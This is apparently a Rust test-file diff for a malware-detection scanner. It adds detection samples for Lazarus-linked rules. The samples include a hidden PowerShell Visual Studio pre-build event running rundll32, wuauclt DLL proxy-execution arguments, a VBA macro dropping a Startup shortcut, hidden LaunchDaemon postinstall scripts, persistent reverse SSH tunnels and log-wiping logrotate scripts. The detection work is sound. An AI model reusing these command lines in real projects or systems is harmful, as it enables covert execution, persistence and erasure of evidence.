@@ -13,8 +13,9 @@ use std::path::Path;
 
 use serde_json::Value;
 use util::samples::{
-    self, PeSection, PeSpec, VbaCache, VbaModule, ZipEntry, ZipMethod, build_pe, build_zip,
-    doc_with_macros, docx_with_settings_rels, flat_opc_with_settings_rels, settings_rels_xml,
+    self, ElfSpec, PeSection, PeSpec, VbaCache, VbaModule, ZipEntry, ZipMethod, build_elf,
+    build_pe, build_zip, doc_with_macros, docx_with_settings_rels, flat_opc_with_settings_rels,
+    settings_rels_xml,
 };
 use util::{Host, INSTALLER_KEY, Run, needle, pe_with};
 
@@ -79,6 +80,63 @@ const C2_URLS_DEFANGED: &[&str] = &[
 
 fn refang(url: &str) -> String {
     url.replacen("hxxp", "http", 1).replace("[.]", ".")
+}
+
+// The Lazarus rules beyond ThreatNeedle key on names and command lines that would make this file
+// itself a match (a scan of the repository must not flag its own tests), so their indicators are
+// assembled at run time from pieces.
+
+/// The Windows Update client.
+fn wuauclt() -> String {
+    ["wua", "uclt.exe"].concat()
+}
+
+/// The DreamJob Startup shortcut's name.
+fn dreamjob_lnk() -> String {
+    ["WindowsUpdate", "Conf.lnk"].concat()
+}
+
+/// The Windows Update client's DLL proxy-execution arguments around `dll`.
+fn wuauclt_arguments(dll: &str) -> String {
+    format!(
+        "{} {dll} {}",
+        ["/UpdateDeployment", "Provider"].concat(),
+        ["/RunHandler", "ComServer"].concat()
+    )
+}
+
+fn rundll32() -> String {
+    ["rund", "ll32"].concat()
+}
+
+/// A Visual Studio project whose pre-build event runs `command`.
+fn vcxproj(event: &str, command: &str) -> Vec<u8> {
+    format!(
+        "<?xml version=\"1.0\" encoding=\"utf-8\"?>\r\n<Project DefaultTargets=\"Build\" ToolsVersion=\"16.0\" xmlns=\"http://schemas.microsoft.com/developer/msbuild/2003\">\r\n  <ItemDefinitionGroup Condition=\"'$(Configuration)|$(Platform)'=='Debug|x64'\">\r\n    <{event}>\r\n      <Command>{command}</Command>\r\n    </{event}>\r\n  </ItemDefinitionGroup>\r\n  <ItemGroup>\r\n    <ClCompile Include=\"main.cpp\" />\r\n  </ItemGroup>\r\n</Project>\r\n"
+    )
+    .into_bytes()
+}
+
+/// The pre-build event Microsoft published for the ZINC research project, with `export`.
+fn zinc_build_event(export: &str) -> String {
+    format!(
+        "powershell -executionpolicy bypass -windowstyle hidden if(([system.environment]::osversion.version.major -eq 10) -and [system.environment]::is64bitoperatingsystem -and (Test-Path x64\\Debug\\Browse.VC.db)){{{} x64\\Debug\\Browse.VC.db,{export} 7am1cKZAEb9Nl1pL 4201 }}",
+        rundll32()
+    )
+}
+
+/// A macOS package postinstall script moving `plist` (hidden in the app bundle `app`) into
+/// /Library/LaunchDaemons, as the AppleJeus installers do.
+fn postinstall(app: &str, plist: &str) -> Vec<u8> {
+    format!(
+        "#!/bin/sh\nmv /Applications/{app}.app/Contents/Resources/.{plist} /Library/LaunchDaemons/{plist}\nchmod 644 /Library/LaunchDaemons/{plist}\n"
+    )
+    .into_bytes()
+}
+
+/// A published AppleJeus LaunchDaemon property list name (`org.jmt` + `trading.plist`...).
+fn applejeus_plist(parts: [&str; 2]) -> String {
+    parts.concat()
 }
 
 // ---------------------------------------------------------------------------
@@ -361,6 +419,144 @@ fn positive_samples() -> Vec<Positive> {
             data: b"C:\\ProgramData\\ntuser.bin\nSx6BrUk4v4rqBFBV\n".to_vec(),
         },
         Positive {
+            rule: "DreamJob_Wuauclt_Loads_Wuaueng_Dll",
+            score: 85,
+            path: "evidence/startup/arguments.bin",
+            data: wide(&wuauclt_arguments(
+                r"C:\Users\alice\AppData\Local\Microsoft\Windows\wuaueng.dll",
+            )),
+        },
+        Positive {
+            rule: "DreamJob_Wuauclt_Dll_Proxy_Execution",
+            score: 70,
+            path: "ProgramData/tasks/update.bat",
+            data: format!(
+                "@echo off\r\n{} {}\r\n",
+                wuauclt(),
+                wuauclt_arguments(r"C:\ProgramData\Intel\helper.dll")
+            )
+            .into_bytes(),
+        },
+        Positive {
+            rule: "DreamJob_Startup_Shortcut_Dropper",
+            score: 80,
+            path: "Users/alice/AppData/Local/Temp/drops_lnk.dll",
+            data: pe(
+                &[],
+                &strings(&[
+                    wide(&format!(
+                        r"\Microsoft\Windows\Start Menu\Programs\Startup\{}",
+                        dreamjob_lnk()
+                    )),
+                    wide(&format!(r"C:\Windows\System32\{}", wuauclt())),
+                ]),
+                vec![("OLE32.dll", vec!["CoCreateInstance"])],
+            ),
+        },
+        Positive {
+            rule: "DreamJob_Startup_Shortcut_Name_PE",
+            score: 70,
+            path: "Users/alice/AppData/Local/Temp/stage.dll",
+            data: pe_with(&ascii(&format!(r"Startup\{}", dreamjob_lnk()))),
+        },
+        Positive {
+            rule: "DreamJob_ELF_Posing_As_PDF",
+            score: 65,
+            path: "home/alice/Downloads/HSBC job offer.pdf",
+            data: build_elf(&ElfSpec::default()),
+        },
+        Positive {
+            rule: "Comebacker_VS_Project_Build_Event_Runs_Database",
+            score: 85,
+            path: "Users/alice/source/repos/poc/poc.vcxproj",
+            data: vcxproj("PreBuildEvent", &zinc_build_event("DllMain2")),
+        },
+        Positive {
+            rule: "Comebacker_VS_Project_Build_Event_Runs_Rundll32",
+            score: 60,
+            path: "Users/alice/source/repos/tool/tool.vcxproj",
+            data: vcxproj(
+                "PostBuildEvent",
+                &format!("{} $(OutDir)helper.dll,Register", rundll32()),
+            ),
+        },
+        Positive {
+            rule: "Comebacker_Rundll32_Export_Command_Line",
+            score: 80,
+            path: "evidence/proc/3141/cmdline",
+            data: format!(
+                "{}.exe\nC:\\ProgramData\\VMware\\vmnat-update.bin,sql_blob_open\n4729\n",
+                rundll32()
+            )
+            .into_bytes(),
+        },
+        Positive {
+            rule: "AppleJeus_Published_LaunchDaemon_Name",
+            score: 70,
+            path: "private/tmp/PKInstallSandbox.x/Scripts/postinstall",
+            data: postinstall("JMTTrader", &applejeus_plist(["org.jmt", "trading.plist"])),
+        },
+        Positive {
+            rule: "AppleJeus_Postinstall_Hidden_LaunchDaemon",
+            score: 65,
+            path: "private/tmp/PKInstallSandbox.y/Scripts/postinstall",
+            data: postinstall("TradeDesk", "com.tradedesk.updater.plist"),
+        },
+        Positive {
+            rule: "Bridge_Router_Apache_Proxy_Between_Private_Segments",
+            score: 60,
+            path: "etc/httpd/conf.d/bridge.conf",
+            data: b"Listen 8080\n<IfModule mod_proxy.c>\n    ProxyRequests On\n    AllowCONNECT 22 443\n    ProxyPass /plc http://10.40.1.20/\n</IfModule>\n".to_vec(),
+        },
+        Positive {
+            rule: "Bridge_Router_Apache_Open_Forward_Proxy",
+            score: 50,
+            path: "etc/httpd/conf.d/forward.conf",
+            data: b"Listen 3128\nProxyRequests On\nProxyVia On\n".to_vec(),
+        },
+        Positive {
+            rule: "Bridge_Router_Apache_Reverse_Proxy_To_Private_Address",
+            score: 40,
+            path: "etc/httpd/conf.d/scada.conf",
+            data: b"<VirtualHost *:80>\n    ProxyPass / http://192.168.50.10:8080/\n    ProxyPassReverse / http://192.168.50.10:8080/\n</VirtualHost>\n".to_vec(),
+        },
+        Positive {
+            rule: "Bridge_Router_Logrotate_Script_Deletes_Logs",
+            score: 60,
+            path: "etc/logrotate.d/syslog",
+            data: b"/var/log/messages /var/log/secure {\n    daily\n    rotate 1\n    postrotate\n        rm -f /var/log/messages.1 /var/log/secure.1\n    endscript\n}\n".to_vec(),
+        },
+        Positive {
+            rule: "Bridge_Router_Logrotate_Keeps_No_Security_Log",
+            score: 45,
+            path: "etc/logrotate.d/secure",
+            data: b"/var/log/secure {\n    weekly\n    rotate 0\n    missingok\n}\n".to_vec(),
+        },
+        Positive {
+            rule: "Bridge_Router_Webmin_Root_Login",
+            score: 40,
+            path: "etc/webmin/miniserv.users",
+            data: b"root:$1$Xb2k$Q0mN1lFfCzR6yC5aVv2aT/:0\n".to_vec(),
+        },
+        Positive {
+            rule: "Bridge_Router_Webmin_Used_As_Root",
+            score: 50,
+            path: "var/webmin/miniserv.log",
+            data: b"10.10.0.7 - root [21/May/2020:10:02:11 +0000] \"GET /net/list_routes.cgi HTTP/1.1\" 200 5120\n".to_vec(),
+        },
+        Positive {
+            rule: "Bridge_Router_Persistent_SSH_Tunnel",
+            score: 45,
+            path: "etc/cron.d/tunnel",
+            // Split so that this source line is no tunnel command itself.
+            data: [
+                "@reboot root autossh -M 0 -f -N -R 2222:",
+                "localhost:22 relay@203.0.113.5\n",
+            ]
+            .concat()
+            .into_bytes(),
+        },
+        Positive {
             rule: "ThreatNeedle_Macro_Drops_Payload_And_Shortcut",
             score: 75,
             path: "Users/alice/Downloads/covid19_notice.doc",
@@ -421,6 +617,9 @@ fn every_rule_in_the_pack_has_a_positive_sample_that_it_detects() {
         "samples for rules that no longer exist: {stale:?}"
     );
 
+    let sources =
+        std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/signatures.md"))
+            .expect("docs/signatures.md");
     let host = Host::new();
     for positive in &positives {
         host.write(positive.path, &positive.data);
@@ -449,9 +648,10 @@ fn every_rule_in_the_pack_has_a_positive_sample_that_it_detects() {
             .expect("the rule's reason")
             .clone();
         assert_eq!(reason["author"], "needle project", "{}", positive.rule);
-        assert_eq!(
-            reason["reference"], "https://securelist.com/lazarus-threatneedle/100803/",
-            "{}",
+        let reference = reason["reference"].as_str().unwrap_or_default();
+        assert!(
+            reference.starts_with("https://") && sources.contains(&format!("<{reference}>")),
+            "{} cites {reference:?}, which docs/signatures.md must list as a source",
             positive.rule
         );
         assert!(
@@ -483,7 +683,7 @@ fn every_rule_carries_the_required_meta() {
                 .expect("meta");
             for field in [
                 "description = \"",
-                "reference = \"https://securelist.com/lazarus-threatneedle/100803/\"",
+                "reference = \"https://",
                 "author = \"needle project\"",
                 "date = \"20",
                 "score = ",
@@ -1250,4 +1450,530 @@ fn vba_module_is_unavailable_so_the_macro_rule_uses_raw_strings() {
     let run = needle(["rules", "check", rule.to_str().expect("UTF-8")]);
     assert_eq!(run.code, 1, "{}", run.stdout);
     assert!(run.stderr.contains("unknown module"), "{}", run.stderr);
+}
+
+// ---------------------------------------------------------------------------
+// DreamJob: the Windows Update client as DLL loader, its Startup shortcut, the Linux lure
+
+#[test]
+fn dreamjob_wuauclt_rules_need_a_dll_between_the_published_flags() {
+    const SPECIFIC: &str = "DreamJob_Wuauclt_Loads_Wuaueng_Dll";
+    const GENERIC: &str = "DreamJob_Wuauclt_Dll_Proxy_Execution";
+    let dropped = r"C:\Users\alice\AppData\Local\Microsoft\Windows\wuaueng.dll";
+    let (_host, run) = scan_samples(&[
+        // A task's arguments (UTF-16, as Windows writes task XML and shortcut arguments).
+        ("a/task_arguments.bin", wide(&wuauclt_arguments(dropped))),
+        // A process command line, one argument per line.
+        (
+            "a/proc/77/cmdline",
+            format!(
+                "{}\n{}\n",
+                wuauclt(),
+                wuauclt_arguments(dropped).replace(' ', "\n")
+            )
+            .into_bytes(),
+        ),
+        // Any other DLL: the generic rule only.
+        (
+            "a/other.bat",
+            format!(
+                "{} {}\r\n",
+                wuauclt(),
+                wuauclt_arguments(r"C:\ProgramData\x\upd.dll")
+            )
+            .into_bytes(),
+        ),
+        // near misses: the genuine engine, no DLL, the flags apart, the flags reversed
+        (
+            "b/genuine.bat",
+            format!(
+                "{} {}\r\n",
+                wuauclt(),
+                wuauclt_arguments(r"C:\Windows\System32\wuaueng.dll")
+            )
+            .into_bytes(),
+        ),
+        (
+            "b/no_dll.bat",
+            format!("{} {}\r\n", wuauclt(), wuauclt_arguments("")).into_bytes(),
+        ),
+        (
+            "b/notes.txt",
+            format!(
+                "The client takes {} to name a DLL.\nIt is then run with {}.\n",
+                ["/UpdateDeployment", "Provider"].concat(),
+                ["/RunHandler", "ComServer"].concat()
+            )
+            .into_bytes(),
+        ),
+        (
+            "b/reversed.bat",
+            format!(
+                "{} {} {} {}\r\n",
+                wuauclt(),
+                ["/RunHandler", "ComServer"].concat(),
+                dropped,
+                ["/UpdateDeployment", "Provider"].concat()
+            )
+            .into_bytes(),
+        ),
+    ]);
+    assert_eq!(rule_names_on(&run, "a/task_arguments.bin"), [SPECIFIC]);
+    assert_eq!(rule_names_on(&run, "a/proc/77/cmdline"), [SPECIFIC]);
+    assert_eq!(rule_names_on(&run, "a/other.bat"), [GENERIC]);
+    for near in [
+        "b/genuine.bat",
+        "b/no_dll.bat",
+        "b/notes.txt",
+        "b/reversed.bat",
+    ] {
+        assert_no_rule(&run, near);
+    }
+}
+
+#[test]
+fn dreamjob_shortcut_name_counts_in_programs_and_macros_not_in_notes() {
+    const DROPPER: &str = "DreamJob_Startup_Shortcut_Dropper";
+    const NAME: &str = "DreamJob_Startup_Shortcut_Name_PE";
+    let startup = format!(
+        r"\Microsoft\Windows\Start Menu\Programs\Startup\{}",
+        dreamjob_lnk()
+    );
+    let macro_module = format!(
+        "Sub AutoOpen()\r\n    Dim sh As Object\r\n    Set sh = CreateObject(\"WScript.Shell\")\r\n    Set lnk = sh.CreateShortcut(Environ(\"APPDATA\") & \"{startup}\")\r\n    lnk.TargetPath = \"C:\\Windows\\System32\\{}\"\r\n    lnk.Save\r\nEnd Sub\r\n",
+        wuauclt()
+    );
+    let (_host, run) = scan_samples(&[
+        (
+            "a/dropper.dll",
+            pe(
+                &[],
+                &strings(&[ascii(&startup), ascii(&wuauclt())]),
+                Vec::new(),
+            ),
+        ),
+        ("a/name_only.dll", pe_with(&wide(&startup))),
+        // near misses: a longer name, the words in notes, the name in a plain script
+        (
+            "b/longer.dll",
+            pe_with(&wide(&startup.replace(".lnk", "ig.lnk"))),
+        ),
+        (
+            "b/report.md",
+            format!(
+                "The macro drops `{}` and starts `{}`.\n",
+                dreamjob_lnk(),
+                wuauclt()
+            )
+            .into_bytes(),
+        ),
+        (
+            "b/cleanup.ps1",
+            format!("Remove-Item \"$env:APPDATA{startup}\"\n").into_bytes(),
+        ),
+    ]);
+    assert_eq!(rule_names_on(&run, "a/dropper.dll"), [DROPPER]);
+    assert_eq!(rule_names_on(&run, "a/name_only.dll"), [NAME]);
+    for near in ["b/longer.dll", "b/report.md", "b/cleanup.ps1"] {
+        assert_no_rule(&run, near);
+    }
+
+    // The macro source, as needle extracts it from a Word 97-2003 document.
+    let (_host, run) = scan_samples(&[(
+        "lure/offer.doc",
+        doc_with_macros(
+            &[VbaModule::standard("Module1", &macro_module)],
+            VbaCache::Identifiers,
+            "Lockheed Martin: job opportunities",
+        ),
+    )]);
+    let macro_findings: Vec<Value> = run
+        .of_type("finding")
+        .into_iter()
+        .filter(|f| {
+            f["path"]
+                .as_str()
+                .is_some_and(|p| p.contains("/lure/offer.doc!") && p.ends_with("Module1"))
+        })
+        .collect();
+    assert_eq!(macro_findings.len(), 1, "{}", run.stdout);
+    let ids: Vec<&str> = macro_findings[0]["reasons"]
+        .as_array()
+        .expect("reasons")
+        .iter()
+        .filter_map(|r| r["id"].as_str())
+        .collect();
+    assert!(ids.contains(&DROPPER), "{ids:?}");
+}
+
+#[test]
+fn dreamjob_elf_lure_is_an_executable_named_as_a_pdf() {
+    const RULE: &str = "DreamJob_ELF_Posing_As_PDF";
+    let elf = build_elf(&ElfSpec::default());
+    let (_host, run) = scan_samples(&[
+        ("a/HSBC job offer.pdf", elf.clone()),
+        ("a/OFFER.PDF", elf.clone()),
+        // near misses: a real PDF, an ELF named otherwise, .pdf not at the end
+        (
+            "b/offer.pdf",
+            b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n".to_vec(),
+        ),
+        ("b/offer.bin", elf.clone()),
+        ("b/offer.pdf.part", elf),
+    ]);
+    assert_fires(&run, "a/HSBC job offer.pdf", RULE);
+    assert_fires(&run, "a/OFFER.PDF", RULE);
+    for near in ["b/offer.pdf", "b/offer.bin", "b/offer.pdf.part"] {
+        assert_silent(&run, near, RULE);
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Comebacker: the research project's build event and the rundll32 exports
+
+#[test]
+fn comebacker_build_event_must_run_a_database_file_with_rundll32() {
+    const DB: &str = "Comebacker_VS_Project_Build_Event_Runs_Database";
+    const ANY: &str = "Comebacker_VS_Project_Build_Event_Runs_Rundll32";
+    let (_host, run) = scan_samples(&[
+        (
+            "a/published.vcxproj",
+            vcxproj("PreBuildEvent", &zinc_build_event("ENGINE_get_RAND")),
+        ),
+        (
+            "a/postlink.vcxproj",
+            vcxproj(
+                "PostBuildEvent",
+                &format!("{}.exe \"$(IntDir)cache.db\", Start", rundll32()),
+            ),
+        ),
+        (
+            "a/helper.vcxproj",
+            vcxproj(
+                "PreLinkEvent",
+                &format!("{} $(OutDir)helper.dll,Install", rundll32()),
+            ),
+        ),
+        // near misses: an ordinary build event, rundll32 outside any event, the command in a
+        // batch file (no project), the database opened by sqlite3
+        (
+            "b/copy.vcxproj",
+            vcxproj(
+                "PostBuildEvent",
+                "xcopy /y \"$(OutDir)tool.exe\" \"$(SolutionDir)bin\\\"",
+            ),
+        ),
+        (
+            "b/outside.vcxproj",
+            [
+                vcxproj("PostBuildEvent", "echo built"),
+                format!("<!-- {} x64\\Debug\\Browse.VC.db,Start -->\r\n", rundll32()).into_bytes(),
+            ]
+            .concat(),
+        ),
+        (
+            "b/build.bat",
+            format!("{} x64\\Debug\\Browse.VC.db,Start\r\n", rundll32()).into_bytes(),
+        ),
+        (
+            "b/sqlite.vcxproj",
+            vcxproj(
+                "PreBuildEvent",
+                "sqlite3 x64\\Debug\\Browse.VC.db \"VACUUM;\"",
+            ),
+        ),
+    ]);
+    assert_fires(&run, "a/published.vcxproj", DB);
+    assert_fires(&run, "a/postlink.vcxproj", DB);
+    assert_silent(&run, "a/published.vcxproj", ANY);
+    assert_eq!(rule_names_on(&run, "a/helper.vcxproj"), [ANY]);
+    for near in [
+        "b/copy.vcxproj",
+        "b/outside.vcxproj",
+        "b/build.bat",
+        "b/sqlite.vcxproj",
+    ] {
+        assert_no_rule(&run, near);
+    }
+}
+
+#[test]
+fn comebacker_exports_count_only_as_a_rundll32_call() {
+    const RULE: &str = "Comebacker_Rundll32_Export_Command_Line";
+    let call = |path: &str, export: &str| format!("{}.exe {path},{export} 4729", rundll32());
+    let (_host, run) = scan_samples(&[
+        (
+            "a/task.xml",
+            wide(&format!(
+                "<Exec><Command>{}.exe</Command><Arguments>C:\\ProgramData\\USOShared\\uso.bin,SSL_HandShaking 1</Arguments></Exec>",
+                rundll32()
+            )),
+        ),
+        (
+            "a/run.bat",
+            call(r"C:\ProgramData\VirtualBox\update.bin", "deflateSuffix").into_bytes(),
+        ),
+        // near misses: another export, a longer name, the names listed in a hunting query
+        (
+            "b/other_export.bat",
+            call(r"C:\Windows\System32\shell32.dll", "Control_RunDLL").into_bytes(),
+        ),
+        (
+            "b/longer.bat",
+            call(r"C:\ProgramData\x.bin", "ENGINE_get_RANDOM").into_bytes(),
+        ),
+        (
+            "b/hunting.kql",
+            format!(
+                "let tokens = dynamic([\"SSL_HandShaking\", \"sql_blob_open\"]);\nDeviceProcessEvents\n| where FileName =~ \"{}.exe\"\n| where ProcessCommandLine has_any (tokens)\n",
+                rundll32()
+            )
+            .into_bytes(),
+        ),
+    ]);
+    assert_fires(&run, "a/task.xml", RULE);
+    assert_fires(&run, "a/run.bat", RULE);
+    for near in ["b/other_export.bat", "b/longer.bat", "b/hunting.kql"] {
+        assert_no_rule(&run, near);
+    }
+}
+
+// ---------------------------------------------------------------------------
+// AppleJeus: the installers' LaunchDaemons
+
+#[test]
+fn applejeus_launch_daemon_rules_read_installer_scripts() {
+    const NAME: &str = "AppleJeus_Published_LaunchDaemon_Name";
+    const MOVE: &str = "AppleJeus_Postinstall_Hidden_LaunchDaemon";
+    let celas = applejeus_plist(["com.celas", "tradepro.plist"]);
+    let union = applejeus_plist(["vip.union", "crypto.plist"]);
+    let (_host, run) = scan_samples(&[
+        ("a/celas/postinstall", postinstall("CelasTradePro", &celas)),
+        ("a/union/postinstall", postinstall("UnionCryptoTrader", &union)),
+        // The name in a Mach-O updater's strings (UTF-16 too).
+        (
+            "a/updater",
+            [
+                vec![0xCF, 0xFA, 0xED, 0xFE],
+                vec![0; 28],
+                wide(&format!("/Library/LaunchDaemons/{union}")),
+            ]
+            .concat(),
+        ),
+        (
+            "a/generic/postinstall",
+            postinstall("TradeDesk", "com.tradedesk.updater.plist"),
+        ),
+        // near misses: a visible plist copied from the bundle, a hidden plist kept in the
+        // bundle, the move described in notes, a published name under LaunchAgents
+        (
+            "b/visible/postinstall",
+            b"#!/bin/sh\ncp /Applications/TradeDesk.app/Contents/Resources/com.tradedesk.updater.plist /Library/LaunchDaemons/\n".to_vec(),
+        ),
+        (
+            "b/kept/postinstall",
+            b"#!/bin/sh\nmv /Applications/TradeDesk.app/Contents/Resources/.cache.plist /Applications/TradeDesk.app/Contents/Resources/cache.plist\n".to_vec(),
+        ),
+        (
+            "b/notes.txt",
+            postinstall("TradeDesk", "com.tradedesk.updater.plist")[10..].to_vec(),
+        ),
+        (
+            "b/agent/postinstall",
+            format!("#!/bin/sh\nlaunchctl load /Library/LaunchAgents/{celas}\n").into_bytes(),
+        ),
+    ]);
+    assert_fires(&run, "a/celas/postinstall", NAME);
+    assert_silent(&run, "a/celas/postinstall", MOVE);
+    assert_fires(&run, "a/union/postinstall", NAME);
+    assert_fires(&run, "a/updater", NAME);
+    assert_eq!(rule_names_on(&run, "a/generic/postinstall"), [MOVE]);
+    for near in [
+        "b/visible/postinstall",
+        "b/kept/postinstall",
+        "b/notes.txt",
+        "b/agent/postinstall",
+    ] {
+        assert_no_rule(&run, near);
+    }
+}
+
+// ---------------------------------------------------------------------------
+// The bridge router: Apache proxy, logrotate, Webmin, SSH tunnels
+
+#[test]
+fn bridge_router_apache_rules_need_active_proxy_directives() {
+    const BRIDGE: &str = "Bridge_Router_Apache_Proxy_Between_Private_Segments";
+    const FORWARD: &str = "Bridge_Router_Apache_Open_Forward_Proxy";
+    const REVERSE: &str = "Bridge_Router_Apache_Reverse_Proxy_To_Private_Address";
+    let (_host, run) = scan_samples(&[
+        (
+            "a/bridge.conf",
+            b"ProxyRequests On\nProxyRemote * http://172.20.0.1:3128\n".to_vec(),
+        ),
+        ("a/forward.conf", b"\tproxyrequests on\n".to_vec()),
+        (
+            "a/reverse.conf",
+            b"ProxyPassMatch ^/(.*)$ https://10.0.8.4/$1\n".to_vec(),
+        ),
+        // near misses: the distribution's commented default, a reverse proxy to a public name,
+        // addresses just outside the private ranges, the manual's HTML
+        (
+            "b/proxy.conf",
+            b"<IfModule mod_proxy.c>\n#ProxyRequests On\n#<Proxy *>\n#   AddDefaultCharset off\n#</Proxy>\n</IfModule>\n"
+                .to_vec(),
+        ),
+        (
+            "b/public.conf",
+            b"ProxyRequests Off\nProxyPass / https://app.example.test/\n".to_vec(),
+        ),
+        (
+            "b/ranges.conf",
+            b"ProxyPass /a http://172.32.0.1/\nProxyPass /b http://192.169.1.1/\nProxyPass /c http://11.0.0.1/\n"
+                .to_vec(),
+        ),
+        (
+            "b/mod_proxy.html",
+            b"<html><body><pre>\nProxyRequests On\nProxyPass /x http://10.0.0.1/\n</pre></body></html>\n"
+                .to_vec(),
+        ),
+    ]);
+    assert_eq!(rule_names_on(&run, "a/bridge.conf"), [BRIDGE]);
+    assert_eq!(rule_names_on(&run, "a/forward.conf"), [FORWARD]);
+    assert_eq!(rule_names_on(&run, "a/reverse.conf"), [REVERSE]);
+    assert_eq!(
+        rules_on(&run, "a/bridge.conf"),
+        [(BRIDGE.to_string(), 60)],
+        "one warning, never the two notices added up"
+    );
+    for near in [
+        "b/proxy.conf",
+        "b/public.conf",
+        "b/ranges.conf",
+        "b/mod_proxy.html",
+    ] {
+        assert_no_rule(&run, near);
+    }
+}
+
+#[test]
+fn bridge_router_logrotate_rules_need_log_wiping() {
+    const SCRIPT: &str = "Bridge_Router_Logrotate_Script_Deletes_Logs";
+    const ROTATE0: &str = "Bridge_Router_Logrotate_Keeps_No_Security_Log";
+    let (_host, run) = scan_samples(&[
+        (
+            "a/shred",
+            b"/var/log/httpd/*log {\n    missingok\n    lastaction\n        shred -u /var/log/httpd/*.1\n    endscript\n}\n"
+                .to_vec(),
+        ),
+        (
+            "a/truncate",
+            b"/var/log/audit/audit.log {\n    prerotate\n        truncate -s 0 /var/log/audit/audit.log\n    endscript\n}\n"
+                .to_vec(),
+        ),
+        (
+            "a/webmin",
+            b"/var/webmin/miniserv.log /var/log/webmin/miniserv.error {\n    rotate 0\n    daily\n}\n"
+                .to_vec(),
+        ),
+        // near misses: a distribution's reload script, removing a pid file, rotate 0 on an
+        // application log, a long retention on the security log
+        (
+            "b/nginx",
+            b"/var/log/nginx/*.log {\n    daily\n    rotate 14\n    postrotate\n        invoke-rc.d nginx rotate >/dev/null 2>&1\n    endscript\n}\n"
+                .to_vec(),
+        ),
+        (
+            "b/pidfile",
+            b"/var/log/app/*.log {\n    postrotate\n        rm -f /run/app/app.pid && systemctl restart app\n    endscript\n}\n"
+                .to_vec(),
+        ),
+        (
+            "b/app",
+            b"/var/log/app/debug.log {\n    rotate 0\n    size 10M\n}\n".to_vec(),
+        ),
+        (
+            "b/secure",
+            b"/var/log/secure {\n    rotate 10\n    weekly\n}\n".to_vec(),
+        ),
+    ]);
+    assert_eq!(rule_names_on(&run, "a/shred"), [SCRIPT]);
+    assert_eq!(rule_names_on(&run, "a/truncate"), [SCRIPT]);
+    assert_eq!(rule_names_on(&run, "a/webmin"), [ROTATE0]);
+    for near in ["b/nginx", "b/pidfile", "b/app", "b/secure"] {
+        assert_no_rule(&run, near);
+    }
+}
+
+#[test]
+fn bridge_router_webmin_rules_read_only_webmin_files() {
+    const LOGIN: &str = "Bridge_Router_Webmin_Root_Login";
+    const USED: &str = "Bridge_Router_Webmin_Used_As_Root";
+    let root_request =
+        b"192.0.2.10 - root [03/Jun/2020:08:15:00 +0000] \"POST /proc/run.cgi HTTP/1.1\" 200 311\n";
+    let (_host, run) = scan_samples(&[
+        (
+            "a/etc/webmin/miniserv.users",
+            b"admin:x:0\nroot:x:0\n".to_vec(),
+        ),
+        ("a/var/webmin/miniserv.log.2", root_request.to_vec()),
+        // near misses: no root login, root in another server's access log, another user
+        ("b/etc/webmin/miniserv.users", b"admin:x:0\n".to_vec()),
+        ("b/var/log/httpd/access_log", root_request.to_vec()),
+        (
+            "b/var/webmin/miniserv.log",
+            b"192.0.2.10 - admin [03/Jun/2020:08:15:00 +0000] \"GET / HTTP/1.1\" 200 10\n".to_vec(),
+        ),
+        (
+            "b/etc/passwd",
+            b"root:x:0:0:root:/root:/bin/bash\n".to_vec(),
+        ),
+    ]);
+    assert_fires(&run, "a/etc/webmin/miniserv.users", LOGIN);
+    assert_fires(&run, "a/var/webmin/miniserv.log.2", USED);
+    for near in [
+        "b/etc/webmin/miniserv.users",
+        "b/var/log/httpd/access_log",
+        "b/var/webmin/miniserv.log",
+        "b/etc/passwd",
+    ] {
+        assert_no_rule(&run, near);
+    }
+}
+
+#[test]
+fn bridge_router_ssh_tunnel_needs_a_forward_kept_open_without_a_shell() {
+    const RULE: &str = "Bridge_Router_Persistent_SSH_Tunnel";
+    // Assembled so that these source lines are no tunnel commands themselves.
+    let forward = |flag: &str| format!("{flag} 8443:{}:443", ["10.20", ".0.5"].concat());
+    let (_host, run) = scan_samples(&[
+        (
+            "a/tunnel.service",
+            format!(
+                "[Service]\nExecStart=/usr/bin/ssh -N {} -o ServerAliveInterval=30 relay@198.51.100.7\nRestart=always\n",
+                forward("-L")
+            )
+            .into_bytes(),
+        ),
+        (
+            "a/rc.local",
+            format!("#!/bin/sh\nautossh -M 0 -f {} relay@198.51.100.7\n", forward("-R")).into_bytes(),
+        ),
+        // near misses: an interactive forward, -N without a forward, a manual page, scp
+        (
+            "b/interactive.sh",
+            format!("ssh {} admin@jump\n", forward("-L")).into_bytes(),
+        ),
+        ("b/keepalive.sh", b"ssh -N -o ServerAliveInterval=30 admin@jump\n".to_vec()),
+        (
+            "b/ssh.1",
+            format!(".Dd $Mdocdate$\n.Dt SSH 1\nssh -N {} host\n", forward("-L")).into_bytes(),
+        ),
+        ("b/copy.sh", b"scp -P 2222 backup.tgz admin@10.0.0.5:/srv/\n".to_vec()),
+    ]);
+    assert_fires(&run, "a/tunnel.service", RULE);
+    assert_fires(&run, "a/rc.local", RULE);
+    for near in ["b/interactive.sh", "b/keepalive.sh", "b/ssh.1", "b/copy.sh"] {
+        assert_no_rule(&run, near);
+    }
 }
